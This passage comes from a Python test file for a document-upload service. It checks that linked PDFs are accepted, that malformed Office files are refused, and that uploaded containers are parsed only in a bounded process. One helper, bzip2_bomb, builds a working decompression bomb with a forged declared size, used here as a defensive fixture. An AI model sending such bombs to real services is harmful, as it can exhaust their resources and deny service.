            weasyprint.HTML(string='<p>Báo cáo</p><a href="https://binhson.gov.vn">Cổng</a>').write_pdf(),
        ),
        ("pyhanko.pdf", pyhanko_pdf(link=True)),
        # the catalog packed in a compressed object stream, found through a cross-reference stream
        ("nen-doi-tuong.pdf", catalog_pdf("/Filter /FlateDecode", zlib.compress, script=False)),
        ("toi-gian.pdf", PDF),
        # a web address opened from the file, and the articles of the file itself: what a reader asks before or does
        ("trang-web.pdf", qpdf_pdf({"/S": "/URI", "/URI": "https://binhson.gov.vn"})),
        ("bai-viet.pdf", qpdf_pdf(threads=True)),
    ],
)
def test_plain_pdfs_with_web_links_are_accepted(client, cast, report, name, content):
    client.force_login(cast["canbo.ldtbxh"])
    assert upload(client, report, name, content).status_code == 302
    assert Evidence.objects.get(entry__report=report).original_name == name


def bzip2_bomb(megabytes: int = 50) -> bytes:
    """A .docx with a part of `megabytes` of zeros packed with bzip2 in a few hundred bytes, declaring 1 000 bytes
    unpacked (26th probe: Python unpacks such a part whole on its first read; 60 of 500 MB held a worker 30 s)."""
    import bz2

    packed, declared = bz2.compress(b"\x00" * megabytes * 1024 * 1024, 9), 1000
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(docx_bytes())) as source, zipfile.ZipFile(buffer, "w") as archive:
        for member in source.infolist():
            archive.writestr(member.filename, source.read(member))
        part = zipfile.ZipInfo("word/media/image1.bin", date_time=(2026, 1, 1, 0, 0, 0))
        part.compress_type, part.file_size, part.compress_size = zipfile.ZIP_BZIP2, declared, len(packed)
        part.CRC, part.header_offset, part.extract_version = zlib.crc32(b"\x00" * declared), archive.fp.tell(), 46
        archive.fp.write(part.FileHeader(False) + packed)
        archive.start_dir = archive.fp.tell()
        archive.filelist.append(part)
        archive.NameToInfo[part.filename] = part
        archive._didModify = True
    return buffer.getvalue()


def test_a_part_packed_other_than_as_office_packs_it_is_refused(client, cast, report, tmp_path):
    bomb = bzip2_bomb()
    assert len(bomb) < 10_000
    assert_refused(client, cast, report, tmp_path, "bom.docx", bomb, "bị hỏng hoặc không đọc được")


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("bao-cao.docx", (SAVED / "libreoffice.docx").read_bytes()),
        ("bang.xlsx", (SAVED / "libreoffice.xlsx").read_bytes()),
        ("cu.doc", (SAVED / "libreoffice.doc").read_bytes()),
        ("cu.xls", (SAVED / "libreoffice.xls").read_bytes()),
        ("bom.docx", bzip2_bomb(1)),
        ("anh.png", png_bytes()),
        ("anh.jpeg", jpeg_bytes()),
    ],
)
def test_the_server_worker_never_opens_an_uploaded_container(client, cast, report, monkeypatch, name, content):
    """Every reading of an Office file, its zip or OLE container's own structure included (the parts' sizes, their
    unpacking, which of Word or Excel it is), and of a picture, is done in the bounded process (26th probe: a bzip2
    part unpacked by the archive check, and 77 000 OLE entries read by the type check, held the server's worker 6 to
    30 s; 28th: 800 000 empty chunks of a PNG, 7 s)."""
    import olefile

    def opened(*args, **kwargs):
        raise AssertionError("an uploaded container was opened in the server's worker")

    monkeypatch.setattr(zipfile.ZipFile, "__init__", opened)
    monkeypatch.setattr(olefile.OleFileIO, "__init__", opened)
    monkeypatch.setattr(Image, "open", opened)  # a picture's chunks too (28th probe: 800 000 empty ones, 7 s)
    client.force_login(cast["canbo.ldtbxh"])
    response = upload(client, report, name, content)
    assert response.status_code == (422 if name == "bom.docx" else 302)
